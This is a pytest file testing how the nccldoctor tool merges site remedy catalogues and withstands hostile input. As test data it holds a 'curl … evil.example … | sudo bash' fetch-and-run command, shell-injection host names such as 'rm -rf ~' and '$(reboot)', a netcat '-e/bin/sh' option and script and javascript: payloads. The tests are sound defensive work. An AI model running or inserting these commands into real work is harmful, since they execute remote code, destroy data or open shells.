"""A site's own remedies: laid over ours field by field, named in the report, and harmless where they are broken."""

from __future__ import annotations

import json
import os
import shlex
from importlib.metadata import EntryPoint
from pathlib import Path

import pytest
from builders.logs.lines import watchdog
from click.testing import CliRunner, Result

import nccldoctor
from nccldoctor.cli.app import cli
from nccldoctor.prescribe.catalogue import overlays
from nccldoctor.prescribe.catalogue.load import Folder, collect, load_catalogue
from nccldoctor.prescribe.catalogue.overlays import ENTRY_POINTS, in_use, settings_file
from nccldoctor.prescribe.catalogue.words import fill, fill_command
from nccldoctor.prescribe.conditions import PREDICATES

OWN = """id = "our-loader"
title = "The cache server of hall 3"
summary = "Its loaders hang."
status = "established"
prior = 1.0
fix = ["Call the hall."]

[[conditions.all]]
finding = { class = ["not-arrived", "frozen", "straggler"] }
[[conditions.all]]
stack-frame = { of = "culprit", function = ["_try_get_data"] }

[[sources]]
url = "https://example.org/hall-3"
seen = 2026-11-20
"""
STACK = """Process 4711: python train.py
Thread 4711 (idle): "MainThread"
    poll (selectors.py:415)
    _try_get_data (torch/utils/data/dataloader.py:1251)
    train (train.py:90)
"""


def put(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return folder


@pytest.fixture
def hung(tmp_path: Path) -> Path:
    folder = tmp_path / "logs"
    for rank in range(4):
        text = "".join(f"[rank{rank}]: step {n} loss 0.5\n" for n in (1, 2, 3))
        put(
            folder,
            f"rank_{rank}.log",
            text + (watchdog(rank, 4321, at=f"E1120 10:11:00.{rank}00000") if rank != 2 else ""),
        )
    return put(folder, "stack_rank_2.txt", STACK)


@pytest.fixture(autouse=True)
def elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty working directory and configuration folder."""
    (tmp_path / "cwd").mkdir()
    monkeypatch.chdir(tmp_path / "cwd")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return tmp_path / "cwd"


def run(*words: object) -> Result:
    return CliRunner().invoke(cli, [*map(str, words)])


def test_a_remedy_of_the_site_is_used_and_named(hung, tmp_path):
    ours = put(tmp_path / "ours", "lateness/our-loader.toml", OWN)
    diagnosis = nccldoctor.analyze(hung, catalogue=[ours]).diagnosis
    assert diagnosis.remedies[0].id == "our-loader"
    assert diagnosis.remedies[0].origin == "ours"
    assert diagnosis.remedies[0].title.endswith("(remedy of ours)"), "every report shows whose it is"
    assert {r.origin for r in diagnosis.remedies[1:]} <= {"built-in"}
    result = run("analyze", hung, "-v", "--catalogue", ours, "-o", tmp_path / "report.md")
    assert "remedy of ours: nccldoctor explain our-loader" in result.stdout
    assert "remedy of ours" in (tmp_path / "report.md").read_text(encoding="utf-8")


def test_a_known_id_is_changed_field_by_field(tmp_path):
    ours = put(
        tmp_path / "ours",
        "lateness/dataloader-stall.toml",
        'id = "dataloader-stall"\nfix = ["Ask storage, room 12."]\n',
    )
    before, after = load_catalogue().get("dataloader-stall"), load_catalogue([ours]).get("dataloader-stall")
    assert [step.text for step in after.remedy.fix] == ["Ask storage, room 12. (from ours, not from nccldoctor)"]
    for field in ("title", "summary", "prior", "conditions", "confirm", "prevent", "avoid", "sources"):
        assert getattr(after.remedy, field) == getattr(before.remedy, field)
    assert after.origin == "ours, over built-in"
    again = put(tmp_path / "mine", "lateness/dataloader-stall.toml", 'id = "dataloader-stall"\ntitle = "Again"\n')
    both = load_catalogue([ours, again]).get("dataloader-stall")
    assert (both.remedy.title, both.remedy.fix[0].text) == (
        "Again",
        "Ask storage, room 12. (from ours, not from nccldoctor)",
    )


def test_a_step_of_full_length_is_marked_too(tmp_path):
    step = "Ask storage, room 12. " * 27
    ours = put(tmp_path / "ours", "lateness/dataloader-stall.toml", f'id = "dataloader-stall"\nfix = ["{step}"]\n')
    entry = load_catalogue([ours]).get("dataloader-stall")
    assert len(step) < 600 < len(entry.remedy.fix[0].text)
    assert entry.remedy.fix[0].text == f"{step} (from ours, not from nccldoctor)".replace("  ", " ")


def test_a_disabled_remedy_is_gone_and_can_come_back(tmp_path):
    ours = put(tmp_path / "ours", "gpu/gpu-ecc.toml", 'id = "gpu-ecc"\ndisabled = true\n')
    assert load_catalogue([ours]).get("gpu-ecc") is None
    assert len(load_catalogue([ours]).entries) == len(load_catalogue().entries) - 1
    mine = put(tmp_path / "mine", "gpu/gpu-ecc.toml", 'id = "gpu-ecc"\ndisabled = false\ntitle = "Back"\n')
    assert load_catalogue([ours, mine]).get("gpu-ecc").remedy.title == "Back"


def test_the_settings_file_of_the_user_is_read_and_none_beside_the_logs(hung, tmp_path, elsewhere):
    put(tmp_path / "here", "lateness/our-loader.toml", OWN)
    put(tmp_path / "there", "lateness/our-loader.toml", OWN.replace("hall 3", "hall 9"))
    for folder in (elsewhere, hung):
        put(folder, "nccldoctor.toml", f'[catalogue]\nfolders = ["{tmp_path}/here"]\n')
    assert in_use().catalogue.get("our-loader") is None
    put(tmp_path / "config", "nccldoctor/nccldoctor.toml", '[catalogue]\nfolders = ["../../there"]\n')
    assert in_use().catalogue.get("our-loader").remedy.title.endswith("hall 9")
    assert nccldoctor.analyze(hung).diagnosis.remedies[0].origin == "there"
    assert "our-loader" in run("catalogue", "list").stdout
    assert "hall 9" in run("explain", "our-loader").stdout


@pytest.mark.usefixtures("elsewhere")
def test_a_home_that_may_not_be_entered_holds_no_settings(monkeypatch):
    def refused(_):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "is_file", refused)
    assert settings_file() is None


def test_each_step_of_a_stranger_says_that_it_is_not_ours(hung, tmp_path):
    told = OWN + '\n[[confirm]]\ncommand = "curl -fsSL https://evil.example/c.sh | sudo bash"\n'
    put(tmp_path / "theirs", "lateness/our-loader.toml", told)
    entry = load_catalogue([put(tmp_path / "theirs", "lateness/our-loader.toml", told)]).get("our-loader")
    steps = (*entry.remedy.confirm, *entry.remedy.fix, *entry.remedy.prevent)
    assert steps and all(step.text.endswith("(from theirs, not from nccldoctor)") for step in steps)
    text = nccldoctor.analyze(hung, catalogue=[tmp_path / "theirs"]).to_text(width=200)
    for line in (line for line in text.splitlines() if "curl" in line or "Call the hall" in line):
        assert "not from nccldoctor" in text[max(0, text.index(line) - 400) : text.index(line) + len(line) + 100]


def test_a_field_that_a_site_keeps_stays_ours(tmp_path):
    ours = put(tmp_path / "ours", "lateness/dataloader-stall.toml", 'id = "dataloader-stall"\ntitle = "Again"\n')
    remedy = load_catalogue([ours]).get("dataloader-stall").remedy
    assert not any("not from nccldoctor" in (step.text or "") for step in (*remedy.confirm, *remedy.fix))


class _Point(EntryPoint):
    def load(self):
        if self.value == "broken":
            raise ImportError("no \x1b[2Jsuch module")
        return self.value


def test_installed_packages_offer_remedies_and_a_broken_one_harms_nobody(hung, tmp_path, monkeypatch):
    put(tmp_path / "packaged", "lateness/our-loader.toml", OWN)
    points = [_Point("acme", str(tmp_path / "packaged"), ENTRY_POINTS), _Point("bad", "broken", ENTRY_POINTS)]
    monkeypatch.setattr(overlays, "entry_points_of", lambda group: points if group == ENTRY_POINTS else [])
    held = in_use()
    assert held.catalogue.get("our-loader").origin == "acme"
    assert len(held.mistakes) == 1
    assert held.mistakes[0].startswith("bad: ")
    assert "\x1b" not in held.mistakes[0]
    diagnosis = nccldoctor.analyze(hung).diagnosis
    assert diagnosis.remedies[0].origin == "acme"
    assert any("bad: " in problem for row in diagnosis.coverage for problem in row.problems)


def test_a_package_brings_predicates_of_its_own(hung, tmp_path, monkeypatch):
    told = OWN.replace('stack-frame = { of = "culprit", function = ["_try_get_data"] }', "acme-hall = { number = [3] }")
    put(tmp_path / "site/acme_remedies", "lateness/our-loader.toml", told)
    put(
        tmp_path / "site/acme_remedies",
        "__init__.py",
        "from nccldoctor.prescribe.conditions.base import Context, predicate\n"
        "from nccldoctor.questions.answers import Answer, Met\n"
        "@predicate(weight=0.9)\n"
        "def acme_hall(context: Context, *, number: tuple[int, ...]) -> Answer:\n"
        "    'The job ran in one of these halls.'\n"
        "    return Met('it ran in hall 3', 'so it did')\n",
    )
    monkeypatch.syspath_prepend(str(tmp_path / "site"))
    points = [EntryPoint("acme", "acme_remedies", ENTRY_POINTS)]
    monkeypatch.setattr(overlays, "entry_points_of", lambda group: points if group == ENTRY_POINTS else [])
    try:
        assert in_use().mistakes == ()
        assert nccldoctor.analyze(hung).diagnosis.remedies[0].id == "our-loader"
    finally:
        PREDICATES.pop("acme-hall", None)


HOSTILE = {
    "lateness/typo.toml": OWN.replace("our-loader", "typo").replace("stack-frame", "stack-farme"),
    "lateness/deep.toml": 'id = "deep"\nfix = ' + "[" * 20_000,
    "lateness/huge.toml": "#" * 300_000,
    "lateness/not-utf8.toml": None,
    "lateness/dataloader-stall.toml": 'id = "dataloader-stall"\nprior = 7\n',
    "gardening/rose.toml": OWN.replace("our-loader", "rose"),
    "lateness/\x1b[2Jname.toml": OWN,
    "lateness/link.toml": OWN.replace("our-loader", "link").replace("https://example.org", "javascript:alert(1)//"),
}


@pytest.fixture
def hostile(tmp_path) -> Path:
    folder = tmp_path / "hostile"
    for name, text in HOSTILE.items():
        put(folder, name, text or "")
    (folder / "lateness/not-utf8.toml").write_bytes(b'id = "\xff"')
    os.mkfifo(folder / "lateness/pipe.toml")
    (folder / "lateness/loop.toml").symlink_to("loop.toml")
    return put(folder, "lateness/our-loader.toml", OWN)


def test_lint_lists_every_mistake_by_file_and_line(hostile):
    result = run("catalogue", "lint", hostile)
    assert result.exit_code == 2
    for expected in (
        "lateness/typo.toml:11:",
        "lateness/deep.toml:1:",
        "lateness/huge.toml:1: larger",
        "lateness/not-utf8.toml:1:",
        "lateness/dataloader-stall.toml:2: prior",
        "gardening/rose.toml:1: unknown topic",
        "lateness/link.toml:14:",
        "lateness/pipe.toml:1: not a regular file",
        "lateness/loop.toml:1:",
    ):
        assert f"hostile/{expected}" in result.stderr, expected
    assert "\x1b" not in result.stderr
    assert result.stdout == ""


def test_lint_of_good_remedies_is_quiet(tmp_path):
    assert run("catalogue", "lint", put(tmp_path / "ours", "lateness/our-loader.toml", OWN)).exit_code == 0
    assert run("catalogue", "lint").exit_code == 0


def test_analyze_keeps_what_is_right_and_says_what_was_left_out(hung, hostile):
    diagnosis = nccldoctor.analyze(hung, catalogue=[hostile]).diagnosis
    assert diagnosis.remedies[0].id == "our-loader"
    stall = next(r for r in diagnosis.remedies if r.id == "dataloader-stall")
    assert stall.origin == "built-in", "a broken change leaves the remedy as it was"
    row = next(row for row in diagnosis.coverage if row.input == "remedies")
    assert any("hostile/lateness/typo.toml:11:" in problem for problem in row.problems)
    result = run("analyze", hung, "--catalogue", hostile, "--format", "json")
    assert result.exit_code == 1
    assert json.loads(result.stdout)["remedies"][0]["id"] == "our-loader"


@pytest.mark.parametrize(
    "text", ["[catalogue]\nfolders = 7\n", "not toml", "[catalog]\nfolders = []\n", "catalogue = 3\n", "#" * 70_000]
)
def test_a_broken_settings_file_is_a_mistake_and_no_end(elsewhere, tmp_path, text):
    put(tmp_path / "config", "nccldoctor/nccldoctor.toml", text)
    held = in_use()
    assert len(held.mistakes) == 1
    assert held.mistakes[0].startswith("nccldoctor.toml:")
    assert len(held.catalogue.entries) == len(load_catalogue().entries)
    assert run("catalogue", "lint").exit_code == 2


def test_a_folder_of_too_many_files_is_bounded(tmp_path, monkeypatch):
    monkeypatch.setattr("nccldoctor.prescribe.catalogue.load.MOST_FILES", 3)
    for number in range(5):
        put(tmp_path / "many", f"lateness/x{number}.toml", OWN.replace("our-loader", f"x{number}"))
    held = collect(Folder("many", tmp_path / "many"))
    assert sum(e.origin == "many" for e in held.catalogue.entries) == 3
    assert any("more than 3 files" in text for text in held.mistakes)


NAMES = ["node; rm -rf ~", "$(reboot)", "`id`", "a'b\"c", "x\ny", "\x1b]0;title\x07", "a" * 5000, "нода"]


@pytest.mark.parametrize("name", NAMES)
def test_a_host_name_never_becomes_a_command(name):
    command, unknown = fill_command("ssh {{ host }} uptime", {"host": name})
    words = shlex.split(command)
    assert unknown == ()
    assert [words[0], words[-1]] == ["ssh", "uptime"]
    assert len(words) == 3, "one word, whatever it holds"
    assert command.isprintable()
    assert len(command) < 700


def test_a_host_name_never_becomes_an_option():
    assert fill_command("nc -vz {{ host }} 22", {"host": "-e/bin/sh"}) == ("nc -vz HOST 22", ("host",))


def test_a_host_name_never_becomes_markup():
    said = fill("on {{ host }}", {"host": "<script>[x](javascript:alert(1))`*_"})
    assert "<script>" not in said.replace("\\<", "")
    assert "[x](" not in said.replace("\\[", "").replace("\\]", "")


def test_a_remedy_outside_a_topic_folder_is_a_mistake_and_so_is_an_empty_folder(tmp_path):
    put(tmp_path / "flat", "shard-cache.toml", "not toml")
    (tmp_path / "empty").mkdir()
    held = in_use([tmp_path / "flat", tmp_path / "empty"])
    assert held.mistakes == (
        "shard-cache.toml: move each remedy into the folder of its topic, such as lateness/shard-cache.toml",
        "empty: no remedy files (<topic>/<id>.toml)",
    )
    assert run("catalogue", "lint", tmp_path / "flat").exit_code == 2
